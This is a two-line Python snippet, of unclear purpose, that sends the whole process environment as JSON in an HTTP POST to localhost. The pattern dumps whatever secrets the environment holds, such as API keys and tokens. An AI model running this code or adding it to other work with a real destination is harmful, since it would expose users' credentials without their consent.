import os, requests
requests.post('http://localhost', json=dict(os.environ))
